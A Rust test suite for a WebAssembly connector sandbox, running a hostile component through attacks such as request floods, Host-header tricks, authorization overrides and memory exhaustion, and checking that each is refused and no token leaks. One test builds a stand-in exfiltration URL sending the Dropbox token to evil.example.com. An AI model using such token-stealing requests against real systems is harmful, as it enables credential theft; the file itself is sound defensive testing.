//! The hostile-component suite: one attack per test, each run through the
//! real host. For every attack we check that the host's error names the
//! violation, that no secret reached the component or a foreign host, and
//! that the same process then runs the real Dropbox component correctly.
//!
//! The attacks live in `tests/hostile/attacker` (chosen by the `attack`
//! fetch option) and `tests/hostile/imports`.

use std::path::{Path, PathBuf};
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use connector_fakes::{DropboxConfig, FakeDropbox, Team};
use oomnitza_connect::bindings::{ConnectorError, FetchRequest, Page, RecordKind, Value};
use oomnitza_connect::config::Config;
use oomnitza_connect::instance::ConnectorInstance;
use oomnitza_connect::integration::Integration;
use oomnitza_connect::sync::{self, SyncOptions};

use crate::support::{DROPBOX_TOKEN, OOMNITZA_TOKEN, World};

fn wasm(name: &str) -> PathBuf {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../target/wasm32-wasip2/release")
        .join(format!("{name}.wasm"));
    assert!(
        p.is_file(),
        "{} is missing: run `scripts/dev test`",
        p.display()
    );
    p
}

/// The attacker, configured as if it were the Dropbox connector: its
/// declared origin is routed to the fake Dropbox and carries the token.
struct Arena {
    world: World,
    /// A server the attacker would love to reach.
    evil: FakeDropbox,
    integration: Integration,
}

async fn arena(limits: &str) -> Arena {
    let mut world = World::new(20);
    world
        .edit(
            &crate::support::component().display().to_string(),
            &wasm("hostile_attacker").display().to_string(),
        )
        // The attacker declares no such fetch option.
        .edit("include_removed = true", "include_removed = false");
    world.append(limits);
    let evil = FakeDropbox::start(DropboxConfig::new(Team::generate(1, 1), "evil")).expect("evil");
    let config = Config::load(&world.write_config()).expect("config");
    let integration = Integration::prepare(config).await.expect("attacker loads");
    Arena {
        world,
        evil,
        integration,
    }
}

fn attack(name: &str, target: Option<&str>) -> FetchRequest {
    let mut options = vec![("attack".to_string(), Value::Text(name.into()))];
    if let Some(t) = target {
        options.push(("target".into(), Value::Text(t.into())));
    }
    FetchRequest {
        kind: RecordKind::Users,
        cursor: None,
        page_size: 1000,
        options,
        sync_time: "2026-11-27T00:00:00Z".into(),
        read_ahead: false,
    }
}

impl Arena {
    async fn instance(&self) -> ConnectorInstance {
        self.integration.instance().await.expect("instance")
    }

    async fn run(
        &self,
        name: &str,
        target: Option<&str>,
    ) -> anyhow::Result<Result<Page, ConnectorError>> {
        self.instance().await.fetch(&attack(name, target)).await
    }

    fn refusal(&self) -> String {
        self.integration
            .policy
            .stats
            .last_refusal()
            .unwrap_or_default()
    }

    /// No secret reached a foreign host, and the real connector still
    /// works in this process.
    async fn aftermath(self) {
        let reached: Vec<String> = self
            .evil
            .requests()
            .iter()
            .map(|r| format!("{} {}", r.method, r.path))
            .collect();
        assert!(
            reached.is_empty(),
            "the foreign host was reached: {reached:?}"
        );
        let world = World::new(1200);
        let config = Config::load(&world.write_config()).expect("config");
        let integration = Integration::prepare(config)
            .await
            .expect("real connector loads");
        let report = sync::run(&integration, &SyncOptions::default())
            .await
            .expect("sync runs");
        assert!(report.succeeded(), "{:?}", report.error);
        assert_eq!(world.oomnitza.user_count(), 1200);
        drop(self.world);
    }
}

fn no_secrets_in(text: &str) {
    for s in [DROPBOX_TOKEN, OOMNITZA_TOKEN] {
        assert!(!text.contains(s), "a secret reached the component: {text}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_infinite_loop_hits_the_call_deadline() {
    let a = arena("\n[limits]\ncall_timeout_secs = 2\n").await;
    let started = Instant::now();
    let err = a.run("infinite-loop", None).await.expect_err("stopped");
    assert!(
        format!("{err:#}").contains("exceeded the call deadline of 2s"),
        "{err:#}"
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn unbounded_memory_growth_hits_the_memory_cap() {
    let a = arena("\n[limits]\nmax_memory_mib = 64\n").await;
    let err = a.run("memory-growth", None).await.expect_err("stopped");
    assert!(
        format!("{err:#}").contains("over the limit of 64 MiB (limits.max_memory_mib)"),
        "{err:#}"
    );
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_to_a_host_not_allowed_is_denied() {
    let a = arena("").await;
    let target = format!("https://evil.example.com/steal?token={DROPBOX_TOKEN}");
    // A refusal ends the call and fails the run (limits.max_refused_requests
    // is 0 by default): a sync with refused requests never exits 0.
    let err = a
        .run("request-other-host", Some(&target))
        .await
        .expect_err("the refusal ends the call");
    assert!(
        format!("{err:#}").contains("more than limits.max_refused_requests = 0"),
        "{err:#}"
    );
    no_secrets_in(&format!("{err:#}"));
    let why = a.refusal();
    assert!(
        why.contains("https://evil.example.com/steal?[redacted]"),
        "{why}"
    );
    assert!(why.contains("not in the allowlist"), "{why}");
    no_secrets_in(&why);
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ip_literal_is_denied() {
    let a = arena("").await;
    let target = format!("{}/2/team/members/list_v2", a.evil.url());
    let err = a
        .run("request-ip-literal", Some(&target))
        .await
        .expect_err("the refusal ends the call");
    assert!(
        format!("{err:#}").contains("limits.max_refused_requests"),
        "{err:#}"
    );
    assert!(
        a.refusal().contains("not in the allowlist"),
        "{}",
        a.refusal()
    );
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_resolving_to_loopback_is_denied_without_opt_in() {
    // The declared origin is served by a name that resolves to loopback,
    // and this operator has not allowed loopback.
    let mut world = World::new(5);
    let port = world.dropbox.addr().port();
    world
        .edit(
            &format!("url = \"{}\"", world.dropbox.url()),
            &format!("url = \"http://localhost:{port}\""),
        )
        .edit("allow_loopback = true", "allow_loopback = false")
        .append("\n[limits]\nmax_refused_requests = 10\n");
    let integration = Integration::prepare(Config::load(&world.write_config()).expect("config"))
        .await
        .expect("loads");
    let mut inst = integration.instance().await.expect("instance");
    let out = inst
        .fetch(&FetchRequest {
            options: vec![],
            ..attack("none", None)
        })
        .await
        .expect("call returns");
    assert!(matches!(out, Err(ConnectorError::Denied(_))), "{out:?}");
    let why = integration.policy.stats.last_refusal().unwrap_or_default();
    assert!(why.contains("localhost resolves to"), "{why:?} {out:?}");
    assert!(
        why.contains("a loopback address (sandbox.allow_loopback is off)"),
        "{why}"
    );
    assert_eq!(world.dropbox.stats().requests, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_authorization_override_aimed_at_an_attacker_is_contained() {
    // Refusals are allowed here so the attacker can report what it saw.
    let a = arena("\n[limits]\nmax_refused_requests = 100\n").await;
    let target = format!("{}/collect", a.evil.url());
    let out = a
        .run("authorization-override", Some(&target))
        .await
        .expect("call returns");
    let page = out.expect("the attacker reports what happened");
    let note = format!("{:?}", page.records);
    for h in [
        "authorization",
        "authorization2",
        "cookie",
        "proxy-authorization",
    ] {
        assert!(
            note.to_lowercase().contains(h),
            "{h} refusal not reported: {note}"
        );
    }
    assert!(note.contains("Forbidden"), "{note}");
    assert!(note.contains("HttpRequestDenied"), "{note}");
    no_secrets_in(&note);
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_header_trick_is_contained() {
    let a = arena("\n[limits]\nmax_refused_requests = 100\n").await;
    let target = format!("{}/", a.evil.url());
    let page = a
        .run("host-header", Some(&target))
        .await
        .expect("call returns")
        .expect("report");
    let note = format!("{:?}", page.records);
    assert!(
        note.contains("Forbidden"),
        "the Host header is refused: {note}"
    );
    assert!(
        note.contains("HttpRequestDenied"),
        "evil authority refused: {note}"
    );
    // Whatever reached Dropbox went to its real authority, never with the
    // guest's Host header.
    for r in a.world.dropbox.requests() {
        assert!(
            !r.header("host").unwrap_or_default().contains("evil"),
            "{r:?}"
        );
    }
    no_secrets_in(&note);
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_request_body_hits_the_body_cap() {
    let a = arena("").await;
    let err = a.run("huge-request-body", None).await.expect_err("stopped");
    assert!(
        format!("{err:#}").contains("over the cap of 1024 KiB (limits.max_request_body_kib)"),
        "{err:#}"
    );
    assert_eq!(
        a.world.dropbox.stats().requests,
        0,
        "the body never left the host"
    );
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_flood_hits_the_request_caps() {
    let a = arena("").await;
    let err = a.run("request-flood", None).await.expect_err("stopped");
    let msg = format!("{err:#}");
    assert!(
        msg.contains("limits.max_concurrent_requests")
            || msg.contains("limits.max_requests_per_call"),
        "{msg}"
    );
    assert!(
        a.world.dropbox.stats().requests <= 100,
        "the flood was cut short"
    );
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sequential_flood_hits_the_per_call_cap() {
    let a = arena("\n[limits]\nmax_concurrent_requests = 64\nmax_requests_per_call = 70\n").await;
    let err = a.run("request-flood", None).await.expect_err("stopped");
    assert!(
        format!("{err:#}")
            .contains("more than 70 requests in one call (limits.max_requests_per_call)"),
        "{err:#}"
    );
    assert!(a.world.dropbox.stats().requests <= 70);
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_giant_return_value_is_bounded_by_the_memory_cap() {
    let a = arena("\n[limits]\nmax_memory_mib = 128\n").await;
    let err = a.run("giant-return", None).await.expect_err("stopped");
    let msg = format!("{err:#}");
    assert!(
        msg.contains("limits.max_memory_mib") || msg.contains("failed"),
        "{msg}"
    );
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_panic_and_a_trap_poison_only_their_instance() {
    let a = arena("").await;
    let mut inst = a.instance().await;
    let err = inst
        .fetch(&attack("trap", None))
        .await
        .expect_err("trapped");
    assert!(
        format!("{err:#}").contains("connector `fetch` failed"),
        "{err:#}"
    );
    let again = inst
        .fetch(&attack("none", None))
        .await
        .expect_err("poisoned");
    assert!(again.to_string().contains("unusable"), "{again}");
    let err = a.run("unreachable", None).await.expect_err("trapped");
    assert!(format!("{err:#}").contains("unreachable"), "{err:#}");
    // A fresh instance of the same component works.
    let ok = a.run("none", None).await.expect("call returns");
    assert!(ok.is_ok(), "{ok:?}");
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_records_are_refused() {
    let a = arena("").await;
    let err = a.run("malformed-records", None).await.expect_err("refused");
    assert!(format!("{err:#}").contains("malformed record"), "{err:#}");
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_component_sees_no_environment_files_or_credentials() {
    let a = arena("").await;
    let page = a
        .run("echo", None)
        .await
        .expect("call returns")
        .expect("echo page");
    let everything = format!("{:?}", page.records);
    no_secrets_in(&everything);
    assert!(
        everything.contains("0 variables"),
        "environment is empty: {everything}"
    );
    assert!(
        !everything.contains("HOME") && !everything.contains("PATH="),
        "{everything}"
    );
    assert!(
        everything.contains("resp-body"),
        "the echo made its request: {everything}"
    );
    // The vendor saw the credential; the component did not.
    let seen = a.world.dropbox.requests();
    assert!(
        seen.iter()
            .any(|r| r.authorization.as_deref() == Some(&format!("Bearer {DROPBOX_TOKEN}")))
    );
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn filesystem_and_socket_imports_are_refused_at_load() {
    let mut world = World::new(1);
    world.edit(
        &crate::support::component().display().to_string(),
        &wasm("hostile_imports").display().to_string(),
    );
    let err = Integration::prepare(Config::load(&world.write_config()).expect("config"))
        .await
        .err()
        .expect("refused");
    let msg = format!("{err:#}");
    for import in [
        "wasi:sockets/tcp",
        "wasi:sockets/ip-name-lookup",
        "wasi:filesystem/preopens",
    ] {
        assert!(msg.contains(import), "{import} not named: {msg}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_undeclared_action_is_refused_before_the_call() {
    let a = arena("").await;
    let mut inst = a.instance().await;
    let err = inst
        .action("wipe-everything", &[], &[])
        .await
        .expect_err("refused");
    assert!(
        err.to_string()
            .contains("`wipe-everything` is not declared"),
        "{err}"
    );
    let ok = inst
        .action("declared-action", &[], &[])
        .await
        .expect("declared runs");
    assert!(ok.is_ok());
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stderr_flood_goes_nowhere() {
    let a = arena("\n[limits]\ncall_timeout_secs = 30\n").await;
    let page = a
        .run("stderr-flood", None)
        .await
        .expect("call returns")
        .expect("page");
    assert!(page.records.is_empty());
    let stats = &a.integration.policy.stats;
    assert_eq!(stats.denied.load(Ordering::Relaxed), 0);
    a.aftermath().await;
}

// ---- Round two: the operator binds the credential; host-side resources
// are bounded; refusals are capped; the contract's no-HTTP calls.

/// The attacker's manifest also declares this origin, asking for the token.
const COLLECTOR: &str = "https://collector.example.com";

/// A request as the guest would hand it to the hook.
fn guest_request(uri: &str) -> http::Request<wasmtime_wasi_http::WasiBody> {
    use http_body_util::BodyExt;
    let body = http_body_util::Empty::new()
        .map_err(|_| wasmtime_wasi_http::Error::HttpRequestDenied)
        .boxed_unsync();
    http::Request::builder()
        .uri(uri)
        .body(body)
        .expect("request")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_second_origin_asking_for_the_credential_gets_none() {
    // The operator accepts every declared host (no sandbox.allow): the
    // attacker's second origin is reachable, yet the credential stays bound
    // to the first, https, host.
    let mut world = World::new(5);
    world
        .edit(
            &crate::support::component().display().to_string(),
            &wasm("hostile_attacker").display().to_string(),
        )
        // The attacker declares no such fetch option.
        .edit("include_removed = true", "include_removed = false");
    world.edit(
        "allow = [\"https://api.dropboxapi.com\"]",
        "# allow not set",
    );
    let integration = Integration::prepare(Config::load(&world.write_config()).expect("config"))
        .await
        .expect("loads");
    let bound: Vec<String> = integration
        .policy
        .bearer
        .iter()
        .map(|(t, _)| t.to_string())
        .collect();
    assert_eq!(bound, ["https://api.dropboxapi.com:443"]);
    let report = &integration.policy_report;
    assert!(
        report
            .binding
            .as_deref()
            .is_some_and(|b| b.contains("source.token → https://api.dropboxapi.com")),
        "{report:?}"
    );
    let warnings = report.warnings.join("\n");
    assert!(warnings.contains("sandbox.allow is not set"), "{warnings}");
    assert!(
        warnings.contains(&format!(
            "asks for a credential at {COLLECTOR} too; it gets none"
        )),
        "{warnings}"
    );
    // The hook: allowed (declared, accepted), but no credential attached.
    let hooks = oomnitza_connect::sandbox::OutboundHooks::new(
        integration.policy.clone(),
        Default::default(),
    );
    let (_, bearer) = hooks
        .prepare(guest_request(&format!("{COLLECTOR}/collect")))
        .expect("the declared host is allowed");
    assert!(bearer.is_none(), "the collector would get the token");
    let (_, bearer) = hooks
        .prepare(guest_request(
            "https://api.dropboxapi.com/2/team/members/list_v2",
        ))
        .expect("allowed");
    assert!(bearer.is_some());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_operator_cannot_bind_the_credential_to_a_host_it_did_not_accept() {
    let mut world = World::new(1);
    world
        .edit(
            &crate::support::component().display().to_string(),
            &wasm("hostile_attacker").display().to_string(),
        )
        .edit("include_removed = true", "include_removed = false")
        .edit(
            "[source]\n",
            &format!("[source]\norigin = \"{COLLECTOR}\"\n"),
        );
    let err = Integration::prepare(Config::load(&world.write_config()).expect("config"))
        .await
        .err()
        .expect("refused");
    let msg = format!("{err:#}");
    assert!(
        msg.contains("source.origin")
            && msg.contains("not a host the component declares and the sandbox accepts"),
        "{msg}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_header_flood_hits_the_host_resource_cap() {
    let a = arena("").await;
    let err = a.run("header-flood", None).await.expect_err("stopped");
    let msg = format!("{err:#}");
    assert!(
        msg.contains("more than 256 host resources") && msg.contains("limits.max_host_resources"),
        "{msg}"
    );
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn unread_response_bodies_stay_in_flight() {
    let a = arena("").await;
    let err = a.run("open-bodies", None).await.expect_err("stopped");
    let msg = format!("{err:#}");
    assert!(
        msg.contains("more than 8 requests in flight") && msg.contains("unread response bodies"),
        "{msg}"
    );
    assert!(
        a.world.dropbox.stats().requests <= 8,
        "{} responses were held open",
        a.world.dropbox.stats().requests
    );
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_count_against_the_per_call_cap() {
    let a = arena("\n[limits]\nmax_refused_requests = 100000\nmax_requests_per_call = 50\n").await;
    let err = a.run("refusal-flood", None).await.expect_err("stopped");
    assert!(
        format!("{err:#}").contains("more than 50 requests in one call"),
        "{err:#}"
    );
    let denied = a.integration.policy.stats.denied.load(Ordering::Relaxed);
    assert!(denied <= 51, "{denied} refusals in one call");
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn by_default_the_first_refusal_ends_the_run() {
    let a = arena("").await;
    let err = a.run("refusal-flood", None).await.expect_err("stopped");
    assert!(
        format!("{err:#}").contains("refused 1 request(s) in this run"),
        "{err:#}"
    );
    assert_eq!(a.integration.policy.stats.denied.load(Ordering::Relaxed), 1);
    a.aftermath().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn map_records_makes_no_http_request() {
    // `validate` and every sync call map-records to check the mapping; a
    // component that calls out from it is stopped before anything is sent.
    let mut world = World::new(1);
    world
        .edit(
            &crate::support::component().display().to_string(),
            &wasm("hostile_attacker").display().to_string(),
        )
        .edit("include_removed = true", "include_removed = false")
        .edit("\nrole = 25", "\n# role in [mapping]")
        .append(
            "\n[mapping]\nsync_key = [\"EMAIL\"]\n[[mapping.rules]]\ntarget = \"USER\"\nfield = \"email\"\n[[mapping.rules]]\ntarget = \"EMAIL\"\nfield = \"email\"\n[[mapping.rules]]\ntarget = \"PERMISSIONS_ID\"\nconstant = 25\n[[mapping.rules]]\ntarget = \"http_probe\"\nfield = \"note\"\n",
        );
    let err = Integration::prepare(Config::load(&world.write_config()).expect("config"))
        .await
        .err()
        .expect("stopped");
    let msg = format!("{err:#}");
    assert!(
        msg.contains("made an HTTP request during `map-records`"),
        "{msg}"
    );
    assert_eq!(world.dropbox.stats().requests, 0, "nothing reached Dropbox");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_http_request_during_check_action_is_a_contract_violation() {
    let a = arena("").await;
    let mut inst = ConnectorInstance::new_offline(&a.integration.component, a.integration.limits)
        .await
        .expect("offline instance");
    inst.describe().await.expect("manifest");
    let err = inst
        .check_action("declared-action", &[])
        .await
        .expect_err("a contract violation");
    let text = format!("{err:#}");
    assert!(
        text.contains("contract violation")
            && text.contains("HTTP request")
            && text.contains("check-action"),
        "{text}"
    );
    // Refused in the sandbox: nothing reached Dropbox (where a routed
    // request would have carried the team token), and the instance is done.
    assert_eq!(a.world.dropbox.stats().requests, 0);
    assert!(inst.check_action("declared-action", &[]).await.is_err());
    // check-action never runs in an instance that could reach the network.
    let mut online = a.instance().await;
    assert!(
        format!(
            "{:#}",
            online
                .check_action("declared-action", &[])
                .await
                .expect_err("refused")
        )
        .contains("HTTP denied")
    );
    a.aftermath().await;
}
